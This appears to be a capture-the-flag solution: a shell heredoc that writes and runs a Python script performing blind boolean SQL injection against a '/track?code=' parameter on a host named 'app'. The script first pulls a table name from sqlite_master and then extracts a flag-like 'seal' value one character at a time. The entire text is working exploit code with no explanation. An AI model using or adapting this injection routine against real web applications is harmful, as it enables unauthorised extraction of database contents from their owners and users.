#-- the first seal of the table, whatever its state
cat > /tmp/blind.py <<'PY'
import http.client, urllib.parse
line = http.client.HTTPConnection("app", 8080)
def true(condition):
    line.request("GET", "/track?code=" + urllib.parse.quote(f"X' OR ({condition}) --"))
    return b"on its way" in line.getresponse().read()
def text(query, alphabet):
    found = ""
    while True:
        fits = [each for each in alphabet if true(f"substr(({query}), {len(found) + 1}, 1) = '{each}'")]
        if not fits:
            return found
        found += fits[0]
table = text("SELECT name FROM sqlite_master WHERE name LIKE 'holds%'", "abcdefghijklmnopqrstuvwxyz_")
print(text(f"SELECT seal FROM {table} LIMIT 1", "flag{}0123456789abcde"))
PY
python3 /tmp/blind.py
